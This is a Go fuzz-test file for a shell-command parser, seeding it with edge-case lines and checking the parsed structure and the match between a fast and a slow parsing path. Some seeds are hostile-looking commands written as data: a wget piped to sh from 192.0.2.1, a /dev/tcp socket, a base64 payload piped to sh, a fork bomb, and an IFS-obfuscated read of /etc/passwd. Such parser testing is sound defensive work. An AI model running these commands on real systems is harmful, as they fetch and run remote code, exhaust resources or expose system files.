package shell

import (
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// sameView compares what views hold, whichever way their slices are empty.
var sameView = cmp.Options{cmpopts.EquateEmpty(), cmpopts.IgnoreUnexported(View{})}

// seeds are lines that once broke a reader or touch a border of one.
var seeds = []string{
	"", " ", "\n", "#", "a#b #c", "wget http://192.0.2.1/x -O- | sh", "cd /tmp;ls&&id||w &\n\n uname -a;", "a |\n b", "a &&\n\n b", "a;;b", "a & ; b", "|a", "a|",
	"a 2>/dev/null >>f 2>&1 <g", "a &>f", "a&>>f b", "a 22>f", "a>&-", "a> 'b c'", ">f", ">f a >g", "a >", "a >\nb", "a <<EOF\nb\nEOF\n", "a <<-EOF\n\tb\n\tEOF", "a <<<b", "a <>b", "a >|b",
	`echo "a\nb"|passwd|bash`, `echo "a$\nb"`, `echo "a\"b\\c\$d"`, `echo 'a"b'"c'd"e\ f`, `""`, `'' a`, `a ""`, `echo "x`, `echo 'x`, "a \"b\nc\" d", "a 'b\nc'\nd", `\a b\;c`, `a\`, "a\\\nb",
	"A=b", "A=b c", "A+=b", "A= B='c d' e", "export A=b c", `export A="b c" -p`, "export a[0]=b", "a[0]=b", "[ -f x ] && y", "[[ -f x ]]", "if a; then b; fi", "! a", "time a", "{ a; }", "find . -exec rm {} \\; -ok id +",
	"{} a", "{a,b}", "a {b,c}", "(a)", "a)", "$a", "$(a)", "`a`", "\"$(a)\"", "sudo -u x sh -c 'a; b'", "echo 'a b' | sh", "eval a b", "a\x00b", "a\rb", "a\r\nb", "\xff\xfe", "日本 a", "a\x7f",
	"x=1 y=2; unset x; read y", "echo d2dldA== | base64 -d | sh", "xargs sh -c 'a'", ". /dev/stdin", "a=~ b ~/c *.d ?e", "a &| b", "a &! b", "a |& b", "@test a", "let a", "a 1>&2>b", "a >#b", "0a>b 1", "1>b",
	"echo -e '\\x61\\0142\\u0063' | sh", "printf '%s %b' a '\\n' | sh", "sh <<< \"a $b\"", "cat <<'E' | sh\na\nE", "bash <(echo a)", "su - -c 'a'", "\\ <(a)", "trap 'a' 0", ":(){ :|:& };:",
	"case a in b) c;; esac", "for i in a b; do $i; done", "f() { a; }; f", "x='y z'; $x \"$x\"", "cat$IFS$9/etc/passwd", "a${IFS}b", "w$@get", "$'\\x61' $\"b\"", "/ip cloud print", "C:\\x\\cmd.exe /c dir", "echo `echo \\`a\\``",
	"sh -c \"echo $(a)\"", "eval '$(a)'", "echo a; sh -c 'b >c' >d; e >f", "sudo sudo env -S 'a b'", "timeout 5", "nohup", "sh -c", "exec 3<>/dev/tcp/192.0.2.1/80", "echo a >&2|sh", "!'' #\xff", ": ; a", "a|:|:|b", ":|:|a;b|:", "true && a || :", "a | true; b", ":&:|&:", "(:;a)|:|b", ": a \"b c\" 'd' *; e", ": {a,b}; c", ": ${x:=y}; $x", ": \"$(a)\"; b", "false a && b", "true \\a; b", ": '日'; a", ": a\"b\"; c", ": # a; b", "alias true=a; true b", "true() { a; }; true", "/bin/true a|b", ": \"\" c;d", ":||a", "a || :; b", "a && : || b", "a; : || b", ": 0[", "a | b || :; c",
	"a $b ${c} \"$d\" $? \"$#\"x", "a $1$2 $@ b$@c \"b$*c\" \"$@\"", "x=$y; a", "x=$y a $x", "export a=$b c", "a $(b | c) \"d $(e \"f\")\" `g h`", "a $(b $(c $(d $(e))))", "a > f; b $(f)", "a <(b $x) >(c)", "a<(b)", "a $(b) > $(c)", "sudo a $(find . -exec sh -c 'x=1' \\;) $x", "a $b | sh -c 'c $b'", "a \"$\" $. b$ $\"c\" $'d\\'e' \"$'f'\"",
	"a b{c}d }e {f} g}{ h{i,j} k{1..2} {l}>m", "eval 'a $b $(c) `d`'; a $b $(c) `d`", "日本 'é' \"ü\" $'ö' ß$ä", ": $a; b $(:) c; : }", "a $(b\nc) d", "a $(b # c) d", "a \"`b \"c\"`\"", "$a b; $a/c d; c$a d", "a $(b) || c $(d) | e `f`", "a $[1] $((1)) $((a) ) ${a[0]} $-", "tee f | a $b", "a 2>$b <$c &>\"$d\"", "a $(b;) $(;) $() $(b &) `` ` ` c", "a $(b 2>/dev/null) $(xargs c) $(cat f) $(cat)", "x='a b'; sh -c 'c $x $(d)'",
}

func FuzzParse(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	p, again := NewParser(), NewParser()
	f.Fuzz(func(t *testing.T, line string) {
		var v, w View
		p.Parse(line, &v)
		again.Parse("x=1; echo `a`; sh -c 'b", &w)
		again.Parse(line, &w)
		if d := cmp.Diff(v, w, sameView); d != "" {
			t.Errorf("Parse(%q) differs from one parser to another:\n%s", line, d)
		}
		checkBounds(t, line, &v)
	})
}

func checkBounds(t *testing.T, line string, v *View) {
	t.Helper()
	if len(v.Commands) > MaxCommands || len(v.Redirects) > MaxRedirects {
		t.Errorf("Parse(%q): %d commands, %d redirects", line, len(v.Commands), len(v.Redirects))
	}
	for i, c := range v.Commands {
		if c.Depth > MaxDepth || c.Parent >= i || c.Parent < -1 {
			t.Errorf("Parse(%q): command %d = %+v, want a parent before it and a depth of at most %d", line, i, c, MaxDepth)
		}
		if c.Scope < 0 || c.Scope >= len(v.Scopes) || len(c.AssignMarks) != len(c.Assigns) || len(c.Args) > 0 && len(c.Marks) != len(c.Args)+1 {
			t.Errorf("Parse(%q): command %d = %+v, want a scope and a mark for each word", line, i, c)
		}
		want := strings.Join(append([]string{c.Name}, c.Args...), " ")
		if c.Name == "" && len(c.Args) == 0 {
			want = strings.Join(c.Assigns, " ")
		}
		if c.Text != want && !(c.Path == "" && c.Name == "") {
			t.Errorf("Parse(%q): Text %q, want Name and Args %q", line, c.Text, want)
		}
	}
	for i, s := range v.Scopes {
		if s.Parent >= i || (s.Parent < 0) != (i == 0) || (s.Pipe > 0) != (s.Kind == Stage) {
			t.Errorf("Parse(%q): scope %d = %+v", line, i, s)
		}
	}
	for i, r := range v.Redirects {
		if r.Command >= len(v.Commands) || r.At < 0 || r.At > len(v.Commands) || r.Scope < 0 || r.Scope >= len(v.Scopes) || r.Text != r.FD+r.Op+" "+r.Target {
			t.Errorf("Parse(%q): redirect %d = %+v", line, i, r)
		}
	}
}

// hard is Parse without the strict lexer on the line itself, and without the bounds of bash's grammar.
func hard(p *Parser, line string, v *View) {
	p.reset(v)
	p.begin(line)
	if file := p.tree(line); file != nil {
		p.stmts(file.Stmts, stream{})
		return
	}
	p.lex(line, stream{}, true)
}

// strict reports whether the strict lexer takes the line.
func strict(p *Parser, line string) bool {
	var v View
	p.reset(&v)
	p.begin(line)
	_, ok := p.lex(line, stream{}, false)
	return ok
}

// continuedComment is a comment that ends in a backslash. It goes on in the next line to mvdan.cc/sh, and to no shell.
var continuedComment = regexp.MustCompile(`#[^\n]*\\\n`)

func FuzzFastEqualsSlow(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	p := NewParser()
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > MaxInput || continuedComment.MatchString(line) || !strict(p, line) {
			return
		}
		var fast, slow View
		p.Parse(line, &fast)
		hard(p, line, &slow)
		if d := cmp.Diff(slow, fast, sameView); d != "" {
			t.Errorf("Parse(%q): strict lexer (+) and parser (-) differ:\n%s", line, d)
		}
	})
}
